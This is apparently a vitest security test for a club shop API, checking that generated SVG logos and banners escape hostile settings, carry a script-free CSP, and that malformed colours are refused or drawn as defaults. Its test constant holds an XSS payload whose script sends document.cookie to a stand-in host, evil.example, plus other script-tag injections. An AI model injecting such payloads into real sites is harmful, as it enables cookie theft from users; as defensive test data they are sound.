/**
 * The pictures the API generates from a club's settings (issue 43): an editor's "colour" or name
 * cannot put markup into a logo or banner, a colour that does not parse is refused by the admin
 * API at its field (and, already stored, draws the default instead of a 500), and every
 * generated or rendered picture carries a CSP that runs no script.
 */
import { createTestApi } from '@clubshop/commerce-api/testing';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { openForFile } from '../src/testing/open-for-file.ts';
import { jsonInit } from './contract.ts';
import { adminFetch, createCliOwner } from './support/admin-client.ts';

const api = openForFile(() => createTestApi());
let owner: string;
const password = 'staff password 1';
const hostile =
  '#fff" onload="alert(1)"/><script>fetch("https://evil.example/?"+document.cookie)</script><x a="';

async function call(method: string, path: string, body?: unknown, headers: Record<string, string> = {}) {
  const reply = await adminFetch(api, owner, method, path, body, headers);
  // biome-ignore lint/suspicious/noExplicitAny: answers are read loosely in assertions
  return { status: reply.status, etag: reply.etag, body: JSON.parse(reply.text) as any };
}

/** Writes settings of every site of the harbour club straight into the database (as an old document may hold them). */
async function storeLooks(primary: string, siteName: string, stadium: string) {
  await api.database.db.execute(sql`
    update sites set settings = jsonb_set(jsonb_set(jsonb_set(settings,
      '{theming,primaryColor}', to_jsonb(${primary}::text)),
      '{theme,siteName}', to_jsonb(${siteName}::text)),
      '{footer,image,title}', to_jsonb(${stadium}::text))
    where club_id = 'harbour'`);
}

function expectPictureHeaders(response: Response) {
  const csp = response.headers.get('Content-Security-Policy') ?? '';
  expect(csp).toContain("default-src 'none'");
  expect(csp).toContain('sandbox');
  expect(csp).not.toContain('script-src');
  expect(response.headers.get('X-Content-Type-Options')).toBe('nosniff');
}

beforeAll(async () => {
  await createCliOwner(api, 'owner@pictures.example', password);
  const token = await api.fetch(
    '/admin/api/auth/token',
    jsonInit('POST', { grant_type: 'password', username: 'owner@pictures.example', password }),
  );
  owner = ((await token.json()) as { access_token: string }).access_token;
}, 180_000);

describe('generated club pictures from hostile settings', () => {
  it('escape every value and draw only #rrggbb colours, with a CSP that runs no script', async () => {
    await storeLooks(hostile, 'Harbour <script>alert(1)</script> & Co', '"/><script>alert(2)</script>');
    for (const path of ['/media/logo/harbour.svg', '/media/banner/harbour/hero.svg']) {
      const response = await api.fetch(path);
      expect(response.status, path).toBe(200);
      expectPictureHeaders(response);
      const svg = await response.text();
      expect(svg, path).not.toMatch(/<script|onload=/i);
      for (const [, colour] of svg.matchAll(/(?:fill|stroke)="([^"]*)"/g))
        expect(colour).toMatch(/^#[0-9a-f]{3,6}$|^none$/i);
    }
    const banner = await (await api.fetch('/media/banner/harbour/hero.svg')).text();
    expect(banner).toContain('Harbour &#60;script&#62;alert(1)&#60;/script&#62; &#38; Co');
    expect(banner).toContain('fill="#333333"'); // the default for the colour that does not parse
  });

  it('draw a colour in another syntax as #rrggbb, and a malformed one as the default: rendered, never a 500', async () => {
    await storeLooks('navy', 'Harbour', 'Harbour Park');
    expect(await (await api.fetch('/media/logo/harbour.svg')).text()).toContain('fill="#000080"');
    await storeLooks('#12345', 'Harbour', 'Harbour Park');
    for (const path of [
      '/images/media/logo/harbour.svg?width=120',
      '/images/media/banner/harbour/hero.svg?width=320',
    ]) {
      const response = await api.fetch(path);
      expect(response.status, path).toBe(200);
      expect(response.headers.get('Content-Type')).toBe('image/jpeg');
      expectPictureHeaders(response);
    }
  });

  it('the admin API refuses a colour the theme cannot read with 400 at its field, and keeps the settings', async () => {
    const site = api.sites.find((candidate) => candidate.club === 'harbour');
    if (!site) throw new Error('no harbour site in the seed');
    const read = await call('GET', `/sites/${site.storeId}/settings`);
    // The earlier tests left a malformed colour in the document; every change sends all three.
    const theming = {
      primaryColor: '#0b2545',
      secondaryColor: '#ffffff',
      textColor: '#111111',
      fontFamily: 'system-ui',
    };
    for (const [field, value] of [
      ['primaryColor', hostile],
      ['secondaryColor', 'var(--brand)'],
      ['textColor', '123456'],
    ] as const) {
      const refused = await call(
        'PATCH',
        `/sites/${site.storeId}/settings`,
        { theming: { ...theming, [field]: value } },
        { 'If-Match': read.etag ?? '*' },
      );
      expect(refused.status, value).toBe(400);
      expect(refused.body.errors).toEqual([
        expect.objectContaining({ field: `theming.${field}`, message: expect.stringContaining(field) }),
      ]);
    }
    expect((await call('GET', `/sites/${site.storeId}/settings`)).etag).toBe(read.etag);
    const accepted = await call(
      'PATCH',
      `/sites/${site.storeId}/settings`,
      {
        theming: {
          ...theming,
          primaryColor: 'oklch(0.45 0.12 250)',
          secondaryColor: 'gold',
          // Empty is the default colour, as the back office's form allows.
          textColor: '',
        },
      },
      { 'If-Match': read.etag ?? '*' },
    );
    expect(accepted.status).toBe(200);
    // The banner draws the parsed colours, and the default for the empty one.
    const banner = await (await api.fetch('/media/banner/harbour/hero.svg')).text();
    expect(banner).toContain('fill="#ffd700"');
    expect(banner).toContain('fill="#000000" opacity="0.3"');
  });
});
